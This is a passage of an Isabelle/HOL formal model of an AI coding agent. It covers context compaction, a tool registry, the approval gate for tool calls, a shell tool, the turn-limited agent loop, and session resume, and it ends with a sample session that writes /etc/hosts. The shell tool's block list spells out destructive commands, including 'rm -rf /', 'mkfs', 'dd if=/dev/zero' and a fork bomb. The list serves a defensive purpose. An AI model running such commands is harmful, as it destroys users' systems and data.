       p_content = Some compressionPrompt\<rparr>,
      \<lparr>p_role = ''user'', p_tool_call_id = None, p_tool_calls = None,
       p_content = Some (formatHistory msgs)\<rparr>]"

definition compress ::
  "(Payload list \<Rightarrow> string + 'v StreamEvent list) \<Rightarrow> string \<Rightarrow> ContextManager
     \<Rightarrow> (string \<times> TokenUsage) option" where
  "compress chatCompletion compressionPrompt contextManager =
     (let msgs = getMessages contextManager in
      if length msgs < 3 then None
      else
        case chatCompletion (compressionMessages compressionPrompt msgs) of
          Inl err \<Rightarrow> None
        | Inr events \<Rightarrow>
            (case fold compress_event events ([], None) of
               (summary, None) \<Rightarrow> None
             | (summary, Some u) \<Rightarrow> if summary = [] then None else Some (summary, u)))"

text \<open>The compaction step at the start of a turn of the agent loop.\<close>

definition compaction_step ::
  "tokenizer \<Rightarrow> (Payload list \<Rightarrow> string + 'v StreamEvent list) \<Rightarrow> string \<Rightarrow> nat
     \<Rightarrow> ContextManager \<Rightarrow> ContextManager" where
  "compaction_step tk chatCompletion compressionPrompt contextWindow cm =
     (if needsCompression cm contextWindow
      then (case compress chatCompletion compressionPrompt cm of
              None \<Rightarrow> cm
            | Some (summary, u) \<Rightarrow>
                cm_addUsage u (setLatestUsage u (replaceWithSummary tk summary cm)))
      else cm)"


section \<open>Tools and the tool registry\<close>

datatype MetaValue = MStr string | MList "string list" | MBool bool

record ToolResult =
  success :: bool
  outputText :: string
  error :: "string option"
  metadata :: "(string \<times> MetaValue) list"
  truncated :: bool
  diff :: "FileDiff option"
  exitCode :: "int option"

definition ToolResult_error :: "string \<Rightarrow> string \<Rightarrow> (string \<times> MetaValue) list \<Rightarrow> ToolResult" where
  "ToolResult_error err out meta =
     \<lparr>success = False, outputText = out, error = Some err, metadata = meta, truncated = False,
      diff = None, exitCode = None\<rparr>"

definition ToolResult_success :: "string \<Rightarrow> ToolResult" where
  "ToolResult_success out =
     \<lparr>success = True, outputText = out, error = None, metadata = [], truncated = False,
      diff = None, exitCode = None\<rparr>"

record 'v ToolInvocation =
  inv_params :: "'v Params"
  inv_cwd :: string

record ParamSchema =
  properties :: "string list"
  param_required :: "string list option"

record ToolSchema =
  schema_name :: string
  schema_description :: string
  parameters :: "ParamSchema option"
  required :: "string list option"

record OpenAISchema =
  o_name :: string
  o_description :: string
  o_parameters :: "ParamSchema + ToolSchema"

text \<open>
  A tool is an object with the methods of the abstract class \<open>Tool\<close>. \<open>'w\<close> is the
  state of the world outside the agent (files, processes, the network) that a tool reads
  and changes. \<open>execute\<close> either returns a result or raises (\<open>Inl\<close>, with the text of
  the error); \<open>getConfirmation\<close> returns a descriptor or null, or raises.
\<close>

record ('v, 'w) Tool =
  tool_name :: string
  tool_description :: string
  schema :: ToolSchema
  tool_isMutating :: bool
  getConfirmation :: "'v ToolInvocation \<Rightarrow> 'w \<Rightarrow> string + 'v ToolConfirmation option"
  execute :: "'v ToolInvocation \<Rightarrow> 'w \<Rightarrow> (string + ToolResult) \<times> 'w"

definition schema_required_fields :: "ToolSchema \<Rightarrow> string list" where
  "schema_required_fields sch =
     (case required sch of
        Some names \<Rightarrow> names
      | None \<Rightarrow> (case parameters sch of
                   None \<Rightarrow> []
                 | Some ps \<Rightarrow> (case param_required ps of None \<Rightarrow> [] | Some names \<Rightarrow> names)))"

text \<open>
  \<open>params[field]\<close> reads an own property of the parameter object or, when there is
  none of that name, the property that every object inherits from \<open>Object.prototype\<close>;
  the inherited ones are neither undefined nor null.
\<close>

definition object_prototype_members :: "string list" where
  "object_prototype_members =
     [''constructor'', ''__defineGetter__'', ''__defineSetter__'', ''hasOwnProperty'',
      ''__lookupGetter__'', ''__lookupSetter__'', ''isPrototypeOf'', ''propertyIsEnumerable'',
      ''toString'', ''valueOf'', ''__proto__'', ''toLocaleString'']"

definition is_missing :: "'v Params \<Rightarrow> string \<Rightarrow> bool" where
  "is_missing ps field =
     (case map_of ps field of
        None \<Rightarrow> field \<notin> set object_prototype_members
      | Some None \<Rightarrow> True
      | Some (Some v) \<Rightarrow> False)"

definition validateParams :: "('v, 'w) Tool \<Rightarrow> 'v Params \<Rightarrow> string list" where
  "validateParams tool ps =
     map (\<lambda>field. ''Parameter '' @ [CHR 0x27] @ field @ [CHR 0x27] @ '' is required'')
         (filter (is_missing ps) (schema_required_fields (schema tool)))"

definition toOpenAISchema :: "('v, 'w) Tool \<Rightarrow> OpenAISchema" where
  "toOpenAISchema tool =
     (case parameters (schema tool) of
        Some ps \<Rightarrow> \<lparr>o_name = tool_name tool, o_description = tool_description tool, o_parameters = Inl ps\<rparr>
      | None \<Rightarrow> \<lparr>o_name = tool_name tool, o_description = tool_description tool,
                  o_parameters = Inr (schema tool)\<rparr>)"

text \<open>The two maps of the registry keep insertion order; they are association lists.\<close>

record ('v, 'w) ToolRegistry =
  tools :: "(string \<times> ('v, 'w) Tool) list"
  mcpTools :: "(string \<times> ('v, 'w) Tool) list"
  allowedTools :: "string list option"

definition registry_get :: "('v, 'w) ToolRegistry \<Rightarrow> string \<Rightarrow> ('v, 'w) Tool option" where
  "registry_get reg n = (case map_of (tools reg) n of Some t \<Rightarrow> Some t | None \<Rightarrow> map_of (mcpTools reg) n)"

definition getTools :: "('v, 'w) ToolRegistry \<Rightarrow> ('v, 'w) Tool list" where
  "getTools reg =
     (let allTools = map snd (tools reg) @ map snd (mcpTools reg) in
      case allowedTools reg of
        None \<Rightarrow> allTools
      | Some allowed \<Rightarrow>
          if length allowed > 0 then filter (\<lambda>tool. tool_name tool \<in> set allowed) allTools
          else allTools)"

definition getSchemas :: "('v, 'w) ToolRegistry \<Rightarrow> OpenAISchema list" where
  "getSchemas reg = map toOpenAISchema (getTools reg)"

text \<open>
  The hook system runs external commands and swallows their failures. What matters of it
  here is which triggers were fired, in order: the log of hook events.
\<close>

datatype 'v HookEvent =
  BeforeTool string "'v Params"
| AfterTool string "'v Params" ToolResult

fun is_after_tool :: "'v HookEvent \<Rightarrow> bool" where
  "is_after_tool (AfterTool n ps r) = True"
| "is_after_tool (BeforeTool n ps) = False"

definition approval_context :: "string \<Rightarrow> 'v Params \<Rightarrow> ('v, 'w) Tool \<Rightarrow> 'v ToolConfirmation \<Rightarrow> 'v ApprovalContext" where
  "approval_context n ps tool confirmation =
     \<lparr>toolName = n, params = ps, isMutating = tool_isMutating tool,
      affectedPaths = (case conf_affectedPaths confirmation of None \<Rightarrow> [] | Some paths \<Rightarrow> paths),
      command = conf_command confirmation,
      isDangerous = Some (case conf_isDangerous confirmation of None \<Rightarrow> False | Some b \<Rightarrow> b)\<rparr>"

text \<open>
  \<open>invoke\<close> takes the log of hook events and the world, and returns them updated with the
  result. \<open>pcwd\<close> is the current directory of the process, read by the approval manager
  when it resolves paths. The call of \<open>execute\<close> is the only one inside a \<open>try\<close>: an
  error raised by \<open>getConfirmation\<close> or by the confirmation callback leaves
  \<open>invoke\<close> as it is (\<open>Inl\<close>), after the before-tool hook and with no after-tool hook.
\<close>

definition invoke ::
  "string \<Rightarrow> ('v, 'w) ToolRegistry \<Rightarrow> string \<Rightarrow> 'v Params \<Rightarrow> string \<Rightarrow> 'v ApprovalManager option
     \<Rightarrow> 'v HookEvent list \<times> 'w \<Rightarrow> (string + ToolResult) \<times> 'v HookEvent list \<times> 'w" where
  "invoke pcwd reg n ps wd approvalManager st =
     (case st of (hooks, world) \<Rightarrow>
      case registry_get reg n of
        None \<Rightarrow>
          (let result = ToolResult_error (''Unknown tool: '' @ n) [] [(''tool_name'', MStr n)]
           in (Inr result, hooks @ [AfterTool n ps result], world))
      | Some tool \<Rightarrow>
          let validationErrors = validateParams tool ps in
          if length validationErrors > 0
          then (let result = ToolResult_error (''Invalid parameters: '' @ join ''; '' validationErrors) []
                               [(''tool_name'', MStr n), (''validation_errors'', MList validationErrors)]
                in (Inr result, hooks @ [AfterTool n ps result], world))
          else
            let hooks1 = hooks @ [BeforeTool n ps];
                invocation = \<lparr>inv_params = ps, inv_cwd = wd\<rparr>;
                gate =
                  (case approvalManager of
                     None \<Rightarrow> Inr None
                   | Some am \<Rightarrow>
                       (case getConfirmation tool invocation world of
                          Inl err \<Rightarrow> Inl err
                        | Inr None \<Rightarrow> Inr None
                        | Inr (Some confirmation) \<Rightarrow>
                            let decision = checkApproval pcwd am (approval_context n ps tool confirmation)
                            in if decision = REJECTED
                               then Inr (Some (ToolResult_error ''Operation rejected by safety policy'' [] []))
                               else if decision = NEEDS_CONFIRMATION
                               then (case requestConfirmation am confirmation of
                                       Inl err \<Rightarrow> Inl err
                                     | Inr approved \<Rightarrow>
                                         if approved then Inr None
                                         else Inr (Some (ToolResult_error ''User rejected the operation'' [] [])))
                               else Inr None))
            in case gate of
                 Inl err \<Rightarrow> (Inl err, hooks1, world)
               | Inr (Some result) \<Rightarrow> (Inr result, hooks1 @ [AfterTool n ps result], world)
               | Inr None \<Rightarrow>
                   (case execute tool invocation world of
                      (Inr result, world') \<Rightarrow> (Inr result, hooks1 @ [AfterTool n ps result], world')
                    | (Inl err, world') \<Rightarrow>
                        (let result = ToolResult_error (''Internal error: '' @ err) [] []
                         in (Inr result, hooks1 @ [AfterTool n ps result], world'))))"

text \<open>No tool of the registry raises in \<open>getConfirmation\<close>, and the confirmation callback,
  when there is one, does not raise.\<close>

definition confirmations_return :: "('v, 'w) ToolRegistry \<Rightarrow> 'v ApprovalManager \<Rightarrow> bool" where
  "confirmations_return reg am =
     ((\<forall>n tool invocation w. registry_get reg n = Some tool
          \<longrightarrow> (\<exists>c. getConfirmation tool invocation w = Inr c))
      \<and> (\<forall>callback confirmation. confirmationCallback am = Some callback
          \<longrightarrow> (\<exists>answer. callback confirmation = Inr answer)))"

section \<open>The shell tool\<close>

text \<open>
  Parameter values as a model sends them: strings, whole numbers and booleans (arrays and
  nested objects are left out). \<open>ShellTool.getConfirmation\<close> calls \<open>includes\<close> on
  the command: on a string it tests for a substring; a number and a boolean have no such
  method, and undefined and null have no properties, so the call raises a type error.
  \<open>execute\<close> spawns the process; it is the parameter \<open>spawn\<close>.
\<close>

datatype jsval = JStr string | JNum int | JBool bool

definition BLOCKED_COMMANDS :: "string list" where
  "BLOCKED_COMMANDS =
     [''rm -rf /'', ''rm -rf ~'', ''rm -rf /*'', ''dd if=/dev/zero'', ''dd if=/dev/random'', ''mkfs'',
      ''fdisk'', ''parted'', '':(){ :|:& };:'', ''chmod 777 /'', ''chmod -R 777'', ''shutdown'',
      ''reboot'', ''halt'', ''poweroff'', ''init 0'', ''init 6'']"

definition string_includes :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "string_includes s part = list_ex (\<lambda>t. startsWith t part) (tails s)"

definition shell_getConfirmation :: "jsval ToolInvocation \<Rightarrow> 'w \<Rightarrow> string + jsval ToolConfirmation option" where
  "shell_getConfirmation invocation w =
     (case map_of (inv_params invocation) ''command'' of
        Some (Some (JStr cmd)) \<Rightarrow>
          if list_ex (string_includes cmd) BLOCKED_COMMANDS
          then Inr (Some \<lparr>conf_toolName = ''shell'', conf_params = inv_params invocation,
                          description = ''Execute (BLOCKED): '' @ cmd, conf_diff = None,
                          conf_affectedPaths = None, conf_command = Some cmd,
                          conf_isDangerous = Some True\<rparr>)
          else Inr (Some \<lparr>conf_toolName = ''shell'', conf_params = inv_params invocation,
                          description = ''Execute: '' @ cmd, conf_diff = None,
                          conf_affectedPaths = None, conf_command = Some cmd,
                          conf_isDangerous = Some False\<rparr>)
      | Some (Some (JNum k)) \<Rightarrow> Inl ''TypeError: params.command.includes is not a function''
      | Some (Some (JBool b)) \<Rightarrow> Inl ''TypeError: params.command.includes is not a function''
      | Some None \<Rightarrow> Inl ''TypeError: Cannot read properties of null''
      | None \<Rightarrow> Inl ''TypeError: Cannot read properties of undefined'')"

definition ShellTool ::
  "(jsval ToolInvocation \<Rightarrow> 'w \<Rightarrow> (string + ToolResult) \<times> 'w) \<Rightarrow> (jsval, 'w) Tool" where
  "ShellTool spawn =
     \<lparr>tool_name = ''shell'',
      tool_description =
        ''Execute a shell command. Use this for running system commands, scripts and CLI tools.'',
      schema = \<lparr>schema_name = ''shell'',
                schema_description =
                  ''Execute a shell command. Use this for running system commands, scripts and CLI tools.'',
                parameters = Some \<lparr>properties = [''command'', ''timeout'', ''cwd''],
                                   param_required = Some [''command'']\<rparr>,
                required = None\<rparr>,
      tool_isMutating = True,
      getConfirmation = shell_getConfirmation,
      execute = spawn\<rparr>"


section \<open>Agent loop\<close>

datatype 'v AgentEvent =
  AgentStart string
| AgentEnd "string option"
| TextDelta string
| TextComplete string
| ToolCallStart string string "'v Params"
| ToolCallComplete string string ToolResult
| AgentError string

text \<open>
  A number of the language: a finite value, one of the two infinities, or not-a-number. The
  configuration file is TOML, whose floats include fractions, \<open>inf\<close> and \<open>nan\<close>,
  and the loader passes \<open>max_turns\<close> on as it is.
\<close>

datatype jsnumber = Finite real | PosInfinity | NegInfinity | NaN

record Config =
  maxTurns :: jsnumber
  contextWindow :: nat
  config_cwd :: string
  approval :: ApprovalPolicy

text \<open>
  What a run takes from outside the repository's code: the tokenizer, the current directory
  of the process, the language's \<open>String\<close> and \<open>JSON.stringify\<close>, the text the
  language gives a finite number that is not a whole number below \<open>10^21\<close>, the two prompt
  builders of the prompts module, the clock (\<open>dateNow t k\<close> is reading \<open>k\<close> during turn
  \<open>t\<close>) and the model. The model is an arbitrary function of the number of the turn and
  of the request: the streamed completion yields a finite list of events, the completion
  requested by the compactor yields events or raises.
\<close>

record 'v Env =
  countTokens :: tokenizer
  processCwd :: string
  jsString :: "'v option \<Rightarrow> string"
  jsonStringify :: "'v Params \<Rightarrow> string"
  numberToString :: "real \<Rightarrow> string"
  getCompressionPrompt :: string
  createLoopBreakerPrompt :: "string \<Rightarrow> string"
  dateNow :: "nat \<Rightarrow> nat \<Rightarrow> nat"
  chatCompletion :: "nat \<Rightarrow> Payload list \<Rightarrow> OpenAISchema list option \<Rightarrow> 'v StreamEvent list"
  compactCompletion :: "nat \<Rightarrow> Payload list \<Rightarrow> string + 'v StreamEvent list"

text \<open>The identifier and the dates of a session play no part in the loop and are left out.\<close>

record ('v, 'w) Session =
  config :: Config
  toolRegistry :: "('v, 'w) ToolRegistry"
  contextManager :: ContextManager
  approvalManager :: "'v ApprovalManager"
  loopDetector :: LoopDetector
  hookLog :: "'v HookEvent list"
  world :: 'w
  turnCount :: nat

definition new_ApprovalManager ::
  "ApprovalPolicy \<Rightarrow> string \<Rightarrow> ('v ToolConfirmation \<Rightarrow> string + bool) option \<Rightarrow> 'v ApprovalManager" where
  "new_ApprovalManager policy wd callback =
     \<lparr>approvalPolicy = policy, cwd = wd, confirmationCallback = callback\<rparr>"

text \<open>The constructor of a session builds the approval manager without a confirmation
  callback.\<close>

definition new_Session ::
  "Config \<Rightarrow> ('v, 'w) ToolRegistry \<Rightarrow> ContextManager \<Rightarrow> 'w \<Rightarrow> ('v, 'w) Session" where
  "new_Session cfg reg cm w =
     \<lparr>config = cfg, toolRegistry = reg, contextManager = cm,
      approvalManager = new_ApprovalManager (approval cfg) (config_cwd cfg) None,
      loopDetector = \<lparr>history = []\<rparr>, hookLog = [], world = w, turnCount = 0\<rparr>"

record 'v PendingCall =
  call_id :: string
  pending_name :: string
  pending_arguments :: "'v Params"

text \<open>The state of the loop over the stream: the text so far, the events yielded, the tool
  calls collected and the usage last reported.\<close>

type_synonym 'v consumed = "string \<times> 'v AgentEvent list \<times> 'v PendingCall list \<times> TokenUsage option"

definition consume_event :: "'v StreamEvent \<Rightarrow> 'v consumed \<Rightarrow> 'v consumed" where
  "consume_event event acc =
     (case acc of (responseText, yielded, calls, u) \<Rightarrow>
      if ev_type event = TEXT_DELTA \<and> truthy_string (textDelta event)
      then (case textDelta event of
              Some delta \<Rightarrow> (responseText @ delta, yielded @ [TextDelta delta], calls, u)
            | None \<Rightarrow> acc)
      else if ev_type event = TOOL_CALL_COMPLETE \<and> toolCall event \<noteq> None
      then (case toolCall event of
              Some tc \<Rightarrow>
                (responseText, yielded,
                 calls @ [\<lparr>call_id = callId tc,
                           pending_name = (case call_name tc of None \<Rightarrow> [] | Some n \<Rightarrow> n),
                           pending_arguments = (case arguments tc of None \<Rightarrow> [] | Some a \<Rightarrow> a)\<rparr>],
                 u)
            | None \<Rightarrow> acc)
      else if ev_type event = ERROR
      then (responseText,
            yielded @ [AgentError (case ev_error event of None \<Rightarrow> ''Unknown error occurred.'' | Some e \<Rightarrow> e)],
            calls, u)
      else if ev_type event = MESSAGE_COMPLETE
      then (responseText, yielded, calls, usage event)
      else acc)"

definition consume :: "'v StreamEvent list \<Rightarrow> 'v consumed" where
  "consume events = fold consume_event events ([], [], [], None)"

definition call_payload :: "('v Params \<Rightarrow> string) \<Rightarrow> 'v PendingCall \<Rightarrow> ToolCallPayload" where
  "call_payload stringify call =
     \<lparr>tc_id = call_id call, tc_type = ''function'', fn_name = pending_name call,
      fn_arguments = stringify (pending_arguments call)\<rparr>"

definition result_content :: "ToolResult \<Rightarrow> string" where
  "result_content result =
     (if success result then outputText result
      else ''Error: '' @ (case error result of None \<Rightarrow> ''null'' | Some e \<Rightarrow> e)
           @ [CHR 0x0A, CHR 0x0A] @ ''Output:'' @ [CHR 0x0A] @ outputText result)"

definition apply_usage :: "TokenUsage option \<Rightarrow> ContextManager \<Rightarrow> ContextManager" where
  "apply_usage u cm = (case u of None \<Rightarrow> cm | Some x \<Rightarrow> cm_addUsage x (setLatestUsage x cm))"

text \<open>
  The loop over the tool calls of one response, in request order. It threads the events
  yielded, the tool results collected, and the session. \<open>invoke\<close> is awaited outside any
  \<open>try\<close>: when it raises, the loop is left at once, with the error as the last
  component.
\<close>

fun dispatch ::
  "'v Env \<Rightarrow> 'v PendingCall list
     \<Rightarrow> 'v AgentEvent list \<times> (string \<times> string \<times> bool) list \<times> ('v, 'w) Session
     \<Rightarrow> 'v AgentEvent list \<times> (string \<times> string \<times> bool) list \<times> ('v, 'w) Session \<times> string option" where
  "dispatch E [] (yielded, toolResults, s) = (yielded, toolResults, s, None)"
| "dispatch E (call # calls) (yielded, toolResults, s) =
     (let started = yielded @ [ToolCallStart (call_id call) (pending_name call) (pending_arguments call)];
          ld = recordAction (jsString E) ''tool_call''
                 \<lparr>d_toolName = Some (pending_name call), d_args = Some (pending_arguments call),
                  d_text = None\<rparr> (loopDetector s)
      in case invoke (processCwd E) (toolRegistry s) (pending_name call) (pending_arguments call)
                (config_cwd (config s)) (Some (approvalManager s)) (hookLog s, world s) of
           (Inl err, hooks, w) \<Rightarrow>
             (started, toolResults, s\<lparr>loopDetector := ld, hookLog := hooks, world := w\<rparr>, Some err)
         | (Inr result, hooks, w) \<Rightarrow>
             dispatch E calls
               (started @ [ToolCallComplete (call_id call) (pending_name call) result],
                toolResults @ [(call_id call, result_content result, \<not> success result)],
                s\<lparr>loopDetector := ld, hookLog := hooks, world := w\<rparr>))"

text \<open>
  The counters of the loop and of the session are numbers of the language, which start at 0
  and grow by 1: the sum is exact below \<open>2^53\<close>, and at \<open>2^53\<close> the 1 is
  absorbed and the counter stays where it is.
\<close>

definition increment :: "nat \<Rightarrow> nat" where
  "increment k = (if k < 2 ^ 53 then Suc k else k)"

text \<open>
  One iteration of the loop of \<open>agenticLoop\<close>: the events it yields, how it ends (the
  function returns, the loop goes on, or an error is raised out of the generator) and the
  session after it.
\<close>

datatype step = Finished | Continue | Raised string

definition turn :: "'v Env \<Rightarrow> ('v, 'w) Session \<Rightarrow> 'v AgentEvent list \<times> step \<times> ('v, 'w) Session" where
  "turn E s0 =
     (let s = s0\<lparr>turnCount := increment (turnCount s0)\<rparr>;
          tk = countTokens E;
          cm1 = compaction_step tk (compactCompletion E (turnCount s)) (getCompressionPrompt E)
                  (contextWindow (config s)) (contextManager s);
          toolSchemas = getSchemas (toolRegistry s);
          (responseText, yielded, calls, u) =
             consume (chatCompletion E (turnCount s) (getMessages cm1)
                        (if length toolSchemas > 0 then Some toolSchemas else None));
          cm2 = addAssistantMessage tk (if responseText \<noteq> [] then Some responseText else None)
                  (if length calls > 0 then Some (map (call_payload (jsonStringify E)) calls) else None) cm1;
          yielded2 = yielded @ (if responseText \<noteq> [] then [TextComplete responseText] else []);
          ld = (if responseText \<noteq> []
                then recordAction (jsString E) ''response''
                       \<lparr>d_toolName = None, d_args = None, d_text = Some responseText\<rparr> (loopDetector s)
                else loopDetector s)
      in if length calls = 0
         then (yielded2, Finished,
               s\<lparr>loopDetector := ld,
                 contextManager := snd (pruneToolOutputs tk (dateNow E (turnCount s)) (apply_usage u cm2))\<rparr>)
         else
           case dispatch E calls (yielded2, [], s\<lparr>loopDetector := ld, contextManager := cm2\<rparr>) of
             (yielded3, toolResults, s3, Some err) \<Rightarrow> (yielded3, Raised err, s3)
           | (yielded3, toolResults, s3, None) \<Rightarrow>
               let cm3 = fold (\<lambda>(tool_call_id, text, is_error). addToolResult tk (Some tool_call_id) text)
                           toolResults (contextManager s3);
                   cm4 = (case checkForLoop (loopDetector s3) of
                            None \<Rightarrow> cm3
                          | Some loopError \<Rightarrow>
                              if loopError \<noteq> [] then addUserMessage tk (createLoopBreakerPrompt E loopError) cm3
                              else cm3)
               in (yielded3, Continue,
                   s3\<lparr>contextManager := snd (pruneToolOutputs tk (dateNow E (turnCount s)) (apply_usage u cm4))\<rparr>))"

text \<open>The test \<open>turn < maxTurns\<close> of the loop, for the whole number \<open>t\<close>; a comparison
  with not-a-number is false.\<close>

fun below_limit :: "nat \<Rightarrow> jsnumber \<Rightarrow> bool" where
  "below_limit t (Finite r) = (of_nat t < r)"
| "below_limit t PosInfinity = True"
| "below_limit t NegInfinity = False"
| "below_limit t NaN = False"

text \<open>The number inside the template string of the last event.\<close>

fun number_text :: "(real \<Rightarrow> string) \<Rightarrow> jsnumber \<Rightarrow> string" where
  "number_text ext (Finite r) =
     (if r = of_int \<lfloor>r\<rfloor> \<and> \<bar>r\<bar> < 10 ^ 21 then show_number \<lfloor>r\<rfloor> else ext r)"
| "number_text ext PosInfinity = ''Infinity''"
| "number_text ext NegInfinity = ''-Infinity''"
| "number_text ext NaN = ''NaN''"

text \<open>
  The loop of \<open>agenticLoop\<close>, from turn \<open>t\<close> on. With an infinite limit and a model that
  keeps asking for tools the loop does not end, so the function takes fuel, one unit for
  each test of the loop, and is \<open>None\<close> when the fuel runs out first. Otherwise it gives
  the events yielded, the error raised out of the generator if there is one, and the
  session.
\<close>

fun agenticLoop ::
  "nat \<Rightarrow> 'v Env \<Rightarrow> jsnumber \<Rightarrow> nat \<Rightarrow> ('v, 'w) Session
     \<Rightarrow> ('v AgentEvent list \<times> string option \<times> ('v, 'w) Session) option" where
  "agenticLoop 0 E limit t s = None"
| "agenticLoop (Suc fuel) E limit t s =
     (if below_limit t limit
      then (case turn E s of
              (yielded, Finished, s') \<Rightarrow> Some (yielded, None, s')
            | (yielded, Raised err, s') \<Rightarrow> Some (yielded, Some err, s')
            | (yielded, Continue, s') \<Rightarrow>
                (case agenticLoop fuel E limit (increment t) s' of
                   None \<Rightarrow> None
                 | Some (later, raised, s'') \<Rightarrow> Some (yielded @ later, raised, s'')))
      else Some ([AgentError (''Maximum turns ('' @ number_text (numberToString E) limit @ '') reached'')],
                 None, s))"

definition run_agenticLoop ::
  "nat \<Rightarrow> 'v Env \<Rightarrow> ('v, 'w) Session
     \<Rightarrow> ('v AgentEvent list \<times> string option \<times> ('v, 'w) Session) option" where
  "run_agenticLoop fuel E s = agenticLoop fuel E (maxTurns (config s)) 0 s"

text \<open>The event that the limit of turns is reached.\<close>

fun is_limit_event :: "'v AgentEvent \<Rightarrow> bool" where
  "is_limit_event (AgentError text) = startsWith text ''Maximum turns (''"
| "is_limit_event other = False"

section \<open>Resuming a session from a snapshot\<close>

text \<open>
  The snapshot stores the output of \<open>getMessages\<close>. On \<open>/resume\<close> each stored message
  that is not the system message goes through the append operation of its role, with the
  fields as they are read from the stored object: a field that was left out reads as
  undefined. \<open>addAssistantMessage\<close> turns undefined text into the empty string. The two
  other operations count the tokens of what they are given, and counting the tokens of
  undefined raises: the tokenizer rejects it, and the fallback estimate reads the length
  of its argument.
\<close>

datatype resume_error = TypeError

definition replay_message :: "tokenizer \<Rightarrow> Payload \<Rightarrow> ContextManager \<Rightarrow> resume_error + ContextManager" where
  "replay_message tk msg cm =
     (if p_role msg = ''system'' then Inr cm
      else if p_role msg = ''user''
      then (case p_content msg of
              None \<Rightarrow> Inl TypeError
            | Some text \<Rightarrow> Inr (addUserMessage tk text cm))
      else if p_role msg = ''assistant''
      then Inr (addAssistantMessage tk (p_content msg) (p_tool_calls msg) cm)
      else if p_role msg = ''tool''
      then (case p_content msg of
              None \<Rightarrow> Inl TypeError
            | Some text \<Rightarrow> Inr (addToolResult tk (p_tool_call_id msg) text cm))
      else Inr cm)"

fun replay :: "tokenizer \<Rightarrow> Payload list \<Rightarrow> ContextManager \<Rightarrow> resume_error + ContextManager" where
  "replay tk [] cm = Inr cm"
| "replay tk (msg # msgs) cm =
     (case replay_message tk msg cm of
        Inl e \<Rightarrow> Inl e
      | Inr cm' \<Rightarrow> replay tk msgs cm')"

text \<open>What the claim of the round trip compares: role, content, tool calls and tool-call id
  of each message.\<close>

definition message_core :: "MessageItem \<Rightarrow> string \<times> string \<times> ToolCallPayload list option \<times> string option" where
  "message_core m = (role m, content m, toolCalls m, toolCallId m)"

text \<open>A response asks for a tool when one of its events completes a tool call.\<close>

definition requests_tool_call :: "'v StreamEvent list \<Rightarrow> bool" where
  "requests_tool_call events =
     list_ex (\<lambda>event. ev_type event = TOOL_CALL_COMPLETE \<and> toolCall event \<noteq> None) events"

text \<open>
  A message as the append operations and pruning leave it, with text in every user and tool
  message and an id in every tool message: these are the messages whose payload keeps all
  the fields that the replay reads.
\<close>

definition replayable :: "tokenizer \<Rightarrow> string \<Rightarrow> MessageItem \<Rightarrow> bool" where
  "replayable tk model m =
     (tokenCount m = Some (tk (content m) model)
      \<and> (if role m = ''user'' then content m \<noteq> [] \<and> toolCallId m = None \<and> toolCalls m = None
         else if role m = ''assistant'' then toolCallId m = None \<and> toolCalls m \<noteq> None
         else role m = ''tool'' \<and> content m \<noteq> [] \<and> truthy_string (toolCallId m)
              \<and> toolCalls m = None))"


section \<open>A sample session\<close>

text \<open>Concrete objects at which the theorems below are instantiated: a tool that writes
  outside the working directory, a registry holding it, a model that always asks for that
  tool, and a session in the middle of a conversation.\<close>

definition sample_tool :: "(string, unit) Tool" where
  "sample_tool =
     \<lparr>tool_name = ''write_file'', tool_description = ''Write a file'',
      schema = \<lparr>schema_name = ''write_file'', schema_description = ''Write a file'',
                parameters = Some \<lparr>properties = [''path''], param_required = Some [''path'']\<rparr>,
                required = None\<rparr>,
      tool_isMutating = True,
      getConfirmation =
        (\<lambda>invocation w.
           Inr (Some \<lparr>conf_toolName = ''write_file'', conf_params = inv_params invocation,
                      description = ''Write file'', conf_diff = None,
                      conf_affectedPaths = Some [''/etc/hosts''], conf_command = None,
                      conf_isDangerous = None\<rparr>)),
      execute = (\<lambda>invocation w. (Inr (ToolResult_success ''written''), w))\<rparr>"

definition sample_registry :: "(string, unit) ToolRegistry" where
  "sample_registry = \<lparr>tools = [(''write_file'', sample_tool)], mcpTools = [], allowedTools = None\<rparr>"

definition sample_usage :: TokenUsage where
  "sample_usage = \<lparr>promptTokens = 800, completionTokens = 100, totalTokens = 900, cachedTokens = 0\<rparr>"

definition sample_context :: ContextManager where
  "sample_context =
     \<lparr>systemPrompt = ''You are an agent.'', modelName = ''gpt-4'',
      messages =
        [\<lparr>role = ''user'', content = ''Update the hosts file'', toolCallId = None, toolCalls = None,
          tokenCount = Some 5, prunedAt = None\<rparr>,
         \<lparr>role = ''assistant'', content = ''On it.'', toolCallId = None, toolCalls = Some [],
          tokenCount = Some 1, prunedAt = None\<rparr>],
      latestUsage = sample_usage, totalUsage = sample_usage\<rparr>"

definition sample_call_event :: "string StreamEvent" where
  "sample_call_event =
     \<lparr>ev_type = TOOL_CALL_COMPLETE, textDelta = None, ev_error = None, finishReason = None,
      toolCallDelta = None,
      toolCall = Some \<lparr>callId = ''call_1'', call_name = Some ''write_file'',
                       arguments = Some [(''path'', Some ''/etc/hosts'')]\<rparr>,
      usage = None\<rparr>"

definition sample_summary_event :: "string StreamEvent" where
  "sample_summary_event =
     \<lparr>ev_type = MESSAGE_COMPLETE, textDelta = Some ''The hosts file was updated.'', ev_error = None,
      finishReason = Some ''stop'', toolCallDelta = None, toolCall = None, usage = Some sample_usage\<rparr>"

definition sample_env :: "string Env" where
  "sample_env =
     \<lparr>countTokens = fallback_tokenizer, processCwd = ''/work'',
      jsString = (\<lambda>v. case v of None \<Rightarrow> ''null'' | Some text \<Rightarrow> text),
      jsonStringify = (\<lambda>ps. ''{}''),
      numberToString = (\<lambda>r. ''1.5''),
      getCompressionPrompt = ''Summarise the conversation.'',
      createLoopBreakerPrompt = (\<lambda>loopError. ''Stop repeating: '' @ loopError),
      dateNow = (\<lambda>t k. t),
      chatCompletion = (\<lambda>t request schemas. [sample_call_event]),
      compactCompletion = (\<lambda>t request. Inr [sample_summary_event])\<rparr>"

definition sample_config :: Config where
  "sample_config = \<lparr>maxTurns = Finite 1, contextWindow = 1000, config_cwd = ''/work'', approval = ON_REQUEST\<rparr>"

definition sample_session :: "(string, unit) Session" where
  "sample_session = new_Session sample_config sample_registry sample_context ()"

text \<open>The same session with a limit of one and a half turns.\<close>

definition fraction_session :: "(string, unit) Session" where
  "fraction_session = sample_session\<lparr>config := sample_config\<lparr>maxTurns := Finite (3 / 2)\<rparr>\<rparr>"

definition turns_run ::
  "('v AgentEvent list \<times> string option \<times> ('v, 'w) Session) option \<Rightarrow> nat option" where
